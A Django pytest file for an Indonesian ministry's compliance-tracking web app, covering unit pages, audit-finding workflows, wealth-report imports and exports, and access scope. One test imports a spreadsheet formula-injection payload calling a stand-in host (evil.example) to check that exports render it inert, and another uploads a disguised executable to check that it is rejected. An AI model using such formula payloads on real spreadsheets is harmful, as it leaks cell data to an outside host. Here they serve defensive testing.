"""The pages, through the client: what they show, what their forms do, how many queries."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tests.compliance.conftest import PDF, add_employee, add_finding, make_year, pdf
from tests.conftest import Ministry
from zona.audit.models import Event
from zona.compliance.models import Finding, FindingStatus, FollowUpEvidence, WealthReport
from zona.cycles.models import AssessmentYear

S = FindingStatus


def unit_url(year: AssessmentYear, ministry: Ministry, key: str = "kanim_sby") -> str:
    return reverse("compliance:unit", args=[year.year, ministry.units[key].pk])


def test_the_unit_page_in_indonesian(ministry: Ministry, year: AssessmentYear) -> None:
    unit = ministry.units["kanim_sby"]
    add_finding(unit, year, "1.1", S.FOLLOWED_UP)
    add_finding(unit, year, "1.2", S.OPEN)
    add_finding(unit, year, "1.3", S.SUBMITTED)
    add_employee(unit, year, 1, filed=False)
    response = ministry.client_for("operator_sby").get(unit_url(year, ministry))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Kepatuhan Kantor Imigrasi Kelas I TPI Surabaya" in page
    assert "33,33 %" in page  # 1 of 3 findings
    assert "1 dari 3 temuan" in page
    assert "1,67" in page  # 33.33 % × 5 ÷ 100
    assert "Tindak lanjut diajukan, menunggu penilaian TPI" in page
    assert "Belum seluruh laporan harta kekayaan disampaikan" in page
    # the operator may change report statuses but not add findings
    assert reverse("compliance:wealth_edit", args=[WealthReport.objects.get().pk]) in page
    assert reverse("compliance:finding_new", args=[year.year, unit.pk]) not in page
    tpi_page = ministry.client_for("tpi_itjen").get(unit_url(year, ministry)).content.decode()
    assert reverse("compliance:finding_new", args=[year.year, unit.pk]) in tpi_page


def test_a_unit_without_findings_shows_100_percent(
    ministry: Ministry, year: AssessmentYear
) -> None:
    page = ministry.client_for("verifier_jatim").get(unit_url(year, ministry)).content.decode()
    assert "100 %" in page
    assert "Belum ada temuan tercatat untuk tahun ini." in page
    assert "Belum ada daftar pegawai untuk tahun ini" in page


def test_findings_filter_answers_with_the_table_only(
    ministry: Ministry, year: AssessmentYear
) -> None:
    unit = ministry.units["kanim_sby"]
    add_finding(unit, year, "1.1", S.FOLLOWED_UP)
    add_finding(unit, year, "1.2", S.OPEN)
    response = ministry.client_for("operator_sby").get(
        unit_url(year, ministry) + "?t-status=sesuai",
        headers={"HX-Request": "true", "HX-Target": "finding-table"},
    )
    body = response.content.decode()
    assert body.lstrip().startswith('<div id="finding-table"')
    assert "Temuan 1.1" in body and "Temuan 1.2" not in body
    assert "<html" not in body


def test_changing_a_report_status_with_htmx(ministry: Ministry, year: AssessmentYear) -> None:
    unit = ministry.units["kanim_sby"]
    report = add_employee(unit, year, 1, filed=False)
    client = ministry.client_for("kepala_sby")
    url = reverse("compliance:wealth_edit", args=[report.pk])
    editing = client.get(url, headers={"HX-Request": "true"}).content.decode()
    assert editing.lstrip().startswith(f'<tr id="wr-{report.pk}" class="editing">')
    refused = client.post(
        url, {"status": "sudah", "report_date": ""}, headers={"HX-Request": "true"}
    )
    assert refused.status_code == 200  # htmx swaps only successful answers
    assert "isi tanggal laporan disampaikan" in refused.content.decode()
    saved = client.post(
        url, {"status": "sudah", "report_date": "2026-01-31"}, headers={"HX-Request": "true"}
    )
    body = saved.content.decode()
    assert body.lstrip().startswith(f'<tr id="wr-{report.pk}">')
    assert 'id="compliance-summary"' in body and 'hx-swap-oob="true"' in body
    assert "Seluruh pegawai telah menyampaikan" in body
    report.refresh_from_db()
    assert report.status == "sudah"
    assert Event.objects.filter(action="wealth_report.status_changed").count() == 1


def test_changing_a_report_status_without_javascript(
    ministry: Ministry, year: AssessmentYear
) -> None:
    report = add_employee(ministry.units["kanim_sby"], year, 1, filed=False)
    client = ministry.client_for("operator_sby")
    url = reverse("compliance:wealth_edit", args=[report.pk])
    assert client.get(url).status_code == 200
    bad = client.post(url, {"status": "belum", "report_date": "2026-01-31"})
    assert bad.status_code == 400
    assert "kosongkan tanggal" in bad.content.decode()
    response = client.post(url, {"status": "sudah", "report_date": "2026-01-31"})
    assert response.status_code == 302
    assert response["Location"].endswith("#lhkpn")


def test_finding_lifecycle_through_the_pages(ministry: Ministry, year: AssessmentYear) -> None:
    unit = ministry.units["kanim_sby"]
    tpi, operator = ministry.client_for("tpi_itjen"), ministry.client_for("operator_sby")
    new_url = reverse("compliance:finding_new", args=[year.year, unit.pk])
    data = {
        "source": "BPK",
        "report_number": "12/LHP/XV/05/2025",
        "report_date": "2025-05-20",
        "number": "3.1",
        "finding": "Kelebihan pembayaran.",
        "recommendation": "Setor ke kas negara.",
        "due_date": "",
    }
    created = tpi.post(new_url, data)
    assert created.status_code == 302
    finding = Finding.objects.get()
    duplicate = tpi.post(new_url, data)
    assert duplicate.status_code == 400
    assert "sudah memiliki temuan nomor 3.1" in duplicate.content.decode()

    detail = reverse("compliance:finding", args=[finding.pk])
    assert "Laporkan tindak lanjut" in operator.get(detail).content.decode()
    assert "Laporkan tindak lanjut" not in tpi.get(detail).content.decode()
    empty = operator.post(reverse("compliance:follow_up", args=[finding.pk]), {"note": ""})
    assert empty.status_code == 400
    sent = operator.post(
        reverse("compliance:follow_up", args=[finding.pk]),
        {"note": "Telah disetor.", "evidence": [pdf("ntpn.pdf"), pdf("sts.pdf", b"2")]},
    )
    assert sent.status_code == 302
    evidence = FollowUpEvidence.objects.order_by("pk")
    assert [e.name for e in evidence] == ["ntpn.pdf", "sts.pdf"]
    download = operator.get(reverse("compliance:evidence", args=[evidence[0].pk]))
    assert download.status_code == 200
    assert b"".join(download.streaming_content).startswith(b"%PDF")  # type: ignore[attr-defined]
    assert "ntpn.pdf" in download["Content-Disposition"]

    page = tpi.get(detail).content.decode()
    assert "Keputusan TPI" in page and "Terima: telah ditindaklanjuti" in page
    accepted = tpi.post(reverse("compliance:review", args=[finding.pk]), {"decision": "accept"})
    assert accepted.status_code == 302
    finding.refresh_from_db()
    assert finding.status == S.FOLLOWED_UP
    again = tpi.post(reverse("compliance:review", args=[finding.pk]), {"decision": "accept"})
    assert again.status_code == 400  # not a choice any more in this state
    assert "Temuan ini sudah selesai" in operator.get(detail).content.decode()


def test_a_refused_evidence_file_is_explained(ministry: Ministry, year: AssessmentYear) -> None:
    finding = add_finding(ministry.units["kanim_sby"], year, "1.1")
    response = ministry.client_for("operator_sby").post(
        reverse("compliance:follow_up", args=[finding.pk]),
        {"note": "Bukti", "evidence": [SimpleUploadedFile("x.pdf", b"MZ\x90\x00program")]},
    )
    assert response.status_code == 400
    assert "program" in response.content.decode()  # the files app names what it found
    assert not finding.follow_ups.exists()


def test_import_errors_are_listed_in_indonesian(ministry: Ministry, year: AssessmentYear) -> None:
    unit = ministry.units["kanim_sby"]
    csv = "nip,nama,kewajiban,status\n12345,Ani,LHKPN,sudah\n"
    response = ministry.client_for("operator_sby").post(
        reverse("compliance:import_wealth", args=[year.year, unit.pk]),
        {"file": SimpleUploadedFile("pegawai.csv", csv.encode())},
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert "Berkas tidak diimpor" in page
    assert "NIP terdiri atas tepat 18 angka" in page
    assert "wajib diisi bila status" in page
    assert not WealthReport.objects.exists()


def test_wealth_import_and_export_through_the_pages(
    ministry: Ministry, year: AssessmentYear
) -> None:
    unit = ministry.units["kanim_sby"]
    client = ministry.client_for("operator_sby")
    csv = (
        "nip,nama,jabatan,kewajiban,status,tanggal_lapor\n"
        "198001012005011001,Kepala,Kepala Kantor,LHKPN,sudah,2026-01-20\n"
    )
    response = client.post(
        reverse("compliance:import_wealth", args=[year.year, unit.pk]),
        {"file": SimpleUploadedFile("pegawai.csv", csv.encode())},
    )
    assert response.status_code == 302
    exported = client.get(reverse("compliance:export_wealth", args=[year.year, unit.pk, "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
    assert sheet is not None
    assert [c.value for c in sheet[2]] == [
        "198001012005011001",
        "Kepala",
        "Kepala Kantor",
        "LHKPN",
        "sudah",
        "2026-01-20",
    ]


def test_the_overview_lists_the_scope(ministry: Ministry, year: AssessmentYear) -> None:
    add_finding(ministry.units["kanim_sby"], year, "1.1", S.OPEN)
    add_employee(ministry.units["lapas_sby"], year, 1)
    client = ministry.client_for("verifier_jatim")
    page = client.get(reverse("compliance:overview", args=[year.year])).content.decode()
    assert "Kanwil Jawa Timur" in page and "Lapas Kelas I Surabaya" in page
    assert "Denpasar" not in page
    assert "0 %" in page and "lengkap" in page
    attention = client.get(
        reverse("compliance:overview", args=[year.year]) + "?attention=on",
        headers={"HX-Request": "true"},
    ).content.decode()
    assert "Kantor Imigrasi Kelas I TPI Surabaya" in attention  # an open finding
    assert "Kanwil Jawa Timur" in attention  # no employee list
    assert "Lapas Kelas I Surabaya" not in attention  # all settled and filed


def test_the_overview_costs_the_same_queries_for_few_or_many_units(
    ministry: Ministry, year: AssessmentYear
) -> None:
    client = ministry.client_for("tpi_itjen")
    url = reverse("compliance:overview", args=[year.year])
    client.get(url)  # warm the session and caches

    def count(query: str) -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url + query).status_code == 200
        return len(captured)

    few = count("?q=Surabaya")  # two units on the page
    for n, unit in enumerate(u for k, u in ministry.units.items() if k != "kementerian"):
        add_finding(unit, year, "1.1", S.FOLLOWED_UP if n % 2 else S.OPEN)
        add_employee(unit, year, n)
    many = count("")  # fourteen units, each with findings and employees
    assert few == many


def test_the_ministry_page_and_its_documents(ministry: Ministry, year: AssessmentYear) -> None:
    team = ministry.client_for("tim_kementerian")
    url = reverse("compliance:ministry", args=[year.year])
    page = team.get(url).content.decode()
    assert "Opini BPK atas laporan keuangan" in page and "Belum diisi" in page
    response = team.post(
        reverse("compliance:ministry_record", args=[year.year, "bpk_opinion"]),
        {
            "bpk_opinion-grade": "WDP",
            "bpk_opinion-reference": "LHP BPK atas LK 2025",
            "bpk_opinion-document": SimpleUploadedFile("lhp.pdf", PDF),
        },
    )
    assert response.status_code == 302
    page = ministry.client_for("operator_dps").get(url).content.decode()
    assert "WDP" in page and "LHP BPK atas LK 2025" in page
    assert "Isi nilai" not in page  # only the ministry team enters grades
    entry = Event.objects.get(action="ministry_grade.recorded")
    assert entry.after is not None and entry.after["grade"] == "WDP"
    from zona.compliance.models import MinistryGrade

    grade = MinistryGrade.objects.get()
    document = ministry.client_for("operator_dps").get(
        reverse("compliance:ministry_document", args=[grade.pk])
    )
    assert document.status_code == 200


def test_a_bad_grade_form_is_shown_again(ministry: Ministry, year: AssessmentYear) -> None:
    response = ministry.client_for("admin").post(
        reverse("compliance:ministry_record", args=[year.year, "akip"]),
        {"akip-grade": "Z", "akip-reference": ""},
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert "Z bukan salah satu dari pilihan yang tersedia" in page
    assert page.count("Bidang ini tidak boleh kosong") == 2  # reference and document


def test_latest_year_redirects_and_no_year(ministry: Ministry) -> None:
    client = ministry.client_for("operator_sby")
    unit = ministry.units["kanim_sby"]
    no_year = client.get(reverse("compliance:unit_latest", args=[unit.pk]))
    assert no_year.status_code == 200
    assert "Belum ada tahun penilaian" in no_year.content.decode()
    make_year(ministry.users["tim_kementerian"], 2025)
    make_year(ministry.users["tim_kementerian"], 2026)
    response = client.get(reverse("compliance:unit_latest", args=[unit.pk]))
    assert response["Location"] == reverse("compliance:unit", args=[2026, unit.pk])
    assert client.get(reverse("compliance:index"))["Location"] == reverse(
        "compliance:overview", args=[2026]
    )
    page = client.get(reverse("compliance:unit", args=[2026, unit.pk])).content.decode()
    assert reverse("compliance:unit", args=[2025, unit.pk]) in page  # the year switcher


def test_the_ministry_itself_has_no_compliance_page(
    ministry: Ministry, year: AssessmentYear
) -> None:
    response = ministry.client_for("admin").get(unit_url(year, ministry, "kementerian"))
    assert response.status_code == 404


@pytest.mark.parametrize("persona", ["operator_sby", "verifier_jatim"])
def test_out_of_scope_and_missing_look_the_same(
    ministry: Ministry, year: AssessmentYear, persona: str
) -> None:
    from tests.test_permission_matrix import MISSING_PK, without_csrf

    client = ministry.client_for(persona)
    out = reverse("compliance:unit", args=[year.year, ministry.units["kanim_dps"].pk])
    missing = reverse("compliance:unit", args=[year.year, MISSING_PK])
    a, b = client.get(out), client.get(missing)
    assert a.status_code == b.status_code == 404
    assert without_csrf(a.content).replace(out.encode(), b"") == without_csrf(b.content).replace(
        missing.encode(), b""
    )
    finding = add_finding(ministry.units["kanim_dps"], year, "1.1")
    assert client.get(reverse("compliance:finding", args=[finding.pk])).status_code == 404


def test_a_year_file_of_findings_through_the_overview(
    ministry: Ministry, year: AssessmentYear
) -> None:
    client = ministry.client_for("tpi_itjen")
    url = reverse("compliance:import_year_findings", args=[year.year])
    header = "kode_unit,sumber,nomor_laporan,tanggal_laporan,nomor_temuan,temuan,rekomendasi\n"
    bad = header + "KANIM_SBY,BPK,1/LHP,2025-05-20,1,T,R\nTIDAK_ADA,BPK,1/LHP,2025-05-20,1,T,R\n"
    refused = client.post(url, {"file": SimpleUploadedFile("temuan.csv", bad.encode())})
    assert refused.status_code == 400
    assert "tidak ada unit dengan kode TIDAK_ADA" in refused.content.decode()
    assert not Finding.objects.exists()
    good = header + "KANIM_SBY,BPK,1/LHP,2025-05-20,1,T,R\nLAPAS_DPS,ITJEN,2/LHA,2025-06-01,1,T,R\n"
    done = client.post(url, {"file": SimpleUploadedFile("temuan.csv", good.encode())})
    assert done.status_code == 302
    assert Finding.objects.count() == 2
    exported = client.get(reverse("compliance:export_year_findings", args=[year.year, "csv"]))
    lines = exported.content.decode("utf-8-sig").splitlines()
    assert lines[0] == ",".join(
        ["kode_unit", "sumber", "nomor_laporan", "tanggal_laporan", "nomor_temuan"]
        + ["temuan", "rekomendasi", "batas_waktu", "status"]
    )
    assert len(lines) == 3
    # a Kanwil verifier exports only the findings of its province
    jatim = ministry.client_for("verifier_jatim").get(
        reverse("compliance:export_year_findings", args=[year.year, "csv"])
    )
    assert len(jatim.content.decode("utf-8-sig").splitlines()) == 2


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_finding_written_as_a_formula_is_exported_as_text(
    ministry: Ministry, year: AssessmentYear, fmt: str
) -> None:
    link = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    client = ministry.client_for("tpi_itjen")
    header = "kode_unit,sumber,nomor_laporan,tanggal_laporan,nomor_temuan,temuan,rekomendasi\n"
    line = f'KANIM_SBY,BPK,1/LHP,2025-05-20,1,"{link.replace(chr(34), chr(34) * 2)}",@R\n'
    url = reverse("compliance:import_year_findings", args=[year.year])
    assert client.post(url, {"file": SimpleUploadedFile("t.csv", (header + line).encode())})
    assert Finding.objects.get().finding == link
    exported = client.get(reverse("compliance:export_year_findings", args=[year.year, fmt]))
    assert "no-store" in exported["Cache-Control"]  # names and findings stay out of caches
    if fmt == "csv":
        row = next(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
        assert (row["temuan"], row["rekomendasi"]) == (f"'{link}", "'@R")
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
        assert sheet is not None
        cells = {head.value: cell for head, cell in zip(sheet[1], sheet[2], strict=True)}
        assert (cells["temuan"].value, cells["temuan"].data_type) == (link, "s")
        assert (cells["rekomendasi"].value, cells["rekomendasi"].data_type) == ("@R", "s")
